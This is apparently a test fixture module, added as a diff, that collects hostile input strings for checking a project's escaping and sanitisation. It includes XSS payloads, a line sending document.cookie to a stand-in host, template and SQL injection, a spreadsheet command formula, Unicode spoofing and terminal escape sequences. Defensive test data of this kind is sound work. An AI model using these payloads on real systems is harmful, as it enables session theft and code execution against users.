@@ -1,0 +1,207 @@
+"""
+Strings that try to be more than text: markup, scripts, styles, templates, formulas, controls.
+
+Whatever of them is run calls `pwned()`, or asks for something at `evil.invalid`.
+"""
+
+from __future__ import annotations
+
+SCRIPTS = [
+    "<script>pwned()</script>",
+    "<SCRIPT>pwned()</SCRIPT>",
+    "<script src=//evil.invalid/x.js></script>",
+    "<script type=module>pwned()</script>",
+    "<script\n>pwned()</script\n>",
+    "<script/x>pwned()</script>",
+    "<scr<script>ipt>pwned()</scr</script>ipt>",
+    "<<script>pwned()//<</script>",
+    "</script><script>pwned()</script>",
+    "</title><script>pwned()</script>",
+    "</textarea><script>pwned()</script>",
+    "</style><script>pwned()</script>",
+    "</noscript><script>pwned()</script>",
+    "</template><script>pwned()</script>",
+    "</pre></code></td></table><script>pwned()</script>",
+    "--><script>pwned()</script>",
+    "--!><script>pwned()</script>",
+    "]]><script>pwned()</script>",
+    "<!--><script>pwned()</script>-->",
+    "<![CDATA[<script>pwned()</script>]]>",
+    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>pwned()</script>",
+    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
+    "<script>fetch('//evil.invalid/?'+document.cookie)</script>",
+]
+
+HANDLERS = [
+    "<img src=x onerror=pwned()>",
+    "<IMG SRC=x ONERROR=pwned()>",
+    "<img src=x onerror='pwned()'",
+    "<img/src=x/onerror=pwned()>",
+    "<img\tsrc=x\tonerror=pwned()>",
+    "<image src=x onerror=pwned()>",
+    "<body onload=pwned()>",
+    "<input autofocus onfocus=pwned()>",
+    "<select autofocus onfocus=pwned()>",
+    "<textarea autofocus onfocus=pwned()>",
+    "<details open ontoggle=pwned()>",
+    "<video><source onerror=pwned()></video>",
+    "<audio src=x onerror=pwned()>",
+    "<marquee onstart=pwned()>",
+    "<div style='animation:x' onanimationstart=pwned()>",
+    "<p tabindex=1 onfocus=pwned() id=x>",
+    "<iframe src='javascript:parent.pwned()'></iframe>",
+    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
+    "<object data='javascript:pwned()'></object>",
+    "<embed src='javascript:pwned()'>",
+    "<form action='javascript:pwned()'><button>x</button></form>",
+    "<button formaction='javascript:pwned()'>x</button>",
+    "<isindex action=javascript:pwned()>",
+    "<dialog open oncancel=pwned()>",
+    "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=pwned()>",
+]
+
+SVG_AND_MATH = [
+    "<svg onload=pwned()>",
+    "<svg/onload=pwned()>",
+    "<svg><script>pwned()</script></svg>",
+    "<svg><script href='data:,pwned()'/></svg>",
+    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
+    "<svg><a xlink:href='javascript:pwned()'><text y=9>x</text></a></svg>",
+    "<svg><use href='//evil.invalid/x.svg#x'/></svg>",
+    "<svg><foreignObject><img src=x onerror=pwned()></foreignObject></svg>",
+    "<svg><style><img src=x onerror=pwned()></style></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
+    "<math href='javascript:pwned()'>x</math>",
+]
+
+ATTRIBUTES = [
+    '"><img src=x onerror=pwned()>',
+    "'><img src=x onerror=pwned()>",
+    '" onmouseover="pwned()',
+    "' onmouseover='pwned()",
+    '" autofocus onfocus="pwned()" x="',
+    "` onmouseover=pwned() `",
+    " onmouseover=pwned() ",
+    '"/><svg onload=pwned()>',
+    "\"'><script>pwned()</script>",
+    "&quot;><img src=x onerror=pwned()>",
+    "&#34;&#62;&#60;img src=x onerror=pwned()&#62;",
+    "&lt;script&gt;pwned()&lt;/script&gt;",
+    'x" hx-get="//evil.invalid/" hx-trigger="load" y="',
+    "<div hx-get='//evil.invalid/' hx-trigger=load>",
+    "<div hx-on:htmx:after:init='pwned()' hx-on::load='pwned()'>",
+    "<rush-log src='//evil.invalid/log'></rush-log>",
+    "<rush-chart src='data:,{}' title='<img src=x onerror=pwned()>'></rush-chart>",
+]
+
+LINKS = [
+    "javascript:pwned()",
+    "JaVaScRiPt:pwned()",
+    "java\tscript:pwned()",
+    "java\nscript:pwned()",
+    "\x01javascript:pwned()",
+    "javascript://%0apwned()",
+    "data:text/html,<script>pwned()</script>",
+    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
+    "vbscript:pwned()",
+    "//evil.invalid/x",
+    "https://evil.invalid/x?a=1&b=<b>",
+    "<a href='javascript:pwned()'>x</a>",
+    "<a href=//evil.invalid target=_blank>x</a>",
+    "[x](javascript:pwned())",
+    "../../../../sign-out",
+    "%2e%2e%2f%3cscript%3epwned()%3c/script%3e",
+]
+
+HEADS_AND_STYLES = [
+    "<base href='//evil.invalid/'>",
+    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
+    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
+    "<link rel=stylesheet href=//evil.invalid/x.css>",
+    "<link rel=prefetch href=//evil.invalid/x>",
+    "<style>@import '//evil.invalid/x.css';</style>",
+    "<style>*{background:url(//evil.invalid/x)}</style>",
+    "<p style='background:url(//evil.invalid/x)'>",
+    "}*{background:url(//evil.invalid/x)}",
+    "\";background:url('//evil.invalid/x');x:\"",
+    "<p style='position:fixed;inset:0;z-index:9999'>",
+    "<img src='//evil.invalid/x.png'>",
+    "<img srcset='//evil.invalid/x.png 1x' src=''>",
+    "<video poster=//evil.invalid/x.png>",
+]
+
+TEMPLATES = [
+    "{{7*7}}",
+    "{{ request.app.state }}",
+    "{% for x in ().__class__.__bases__ %}{{ x }}{% endfor %}",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "${pwned()}",
+    "`${pwned()}`",
+    "');pwned();//",
+    '");pwned();//',
+    "\\';pwned();//",
+    '\\");pwned();//',
+    "};pwned();//",
+    "{0.__class__.__init__.__globals__}",
+    "%(password)s %s %n %x",
+    "__proto__",
+    "constructor",
+    "toString",
+    '{"__proto__": {"pwned": true}}',
+    "'; DROP TABLE rush.run; --",
+    "' OR '1'='1",
+]
+
+FORMULAS = [
+    '=HYPERLINK("//evil.invalid/","x")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "@SUM(1,1)",
+]
+
+UNICODE = [
+    "\u202egnp.exe",
+    "\u2066<script>\u2069pwned()\u2066</script>\u2069",
+    "\ufeff<script>pwned()</script>",
+    "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
+    "\u2028pwned()//",
+    "\u2029pwned()//",
+    "a\u200bd\u200cm\u200di\u2060n",
+    "\u0430dmin",
+    "e" + "\u0301" * 60,
+    "\U000e0041\U000e0042",
+    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
+    "نص عربي <img src=x onerror=pwned()>",
+    "\ufdd0\uffff\U0010ffff",
+]
+
+CONTROLS = [
+    "\x1b[31mred\x1b[0m<img src=x onerror=pwned()>",
+    "\x1b]0;pwned\x07",
+    "\x1b]8;;javascript:pwned()\x1b\\x\x1b]8;;\x1b\\",
+    "\x1b]8;;//evil.invalid/\x07x\x1b]8;;\x07",
+    "\x1b]52;c;cHduZWQ=\x07",
+    "\x1b[2J\x1b[H\x1bc",
+    "\x1b[<script>pwned()</script>m",
+    "\x1bP1;1|pwned\x1b\\",
+    "\x9b31mx\x9d0;x\x9c",
+    "one\r\nSet-Cookie: x=1\r\n\r\n<script>pwned()</script>",
+    "\r<script>pwned()</script>",
+    "\x08\x08\x7f\x0b\x0c",
+]
+
+HOSTILE = [
+    *SCRIPTS,
+    *HANDLERS,
+    *SVG_AND_MATH,
+    *ATTRIBUTES,
+    *LINKS,
+    *HEADS_AND_STYLES,
+    *TEMPLATES,
+    *FORMULAS,
+    *UNICODE,
+    *CONTROLS,
+]
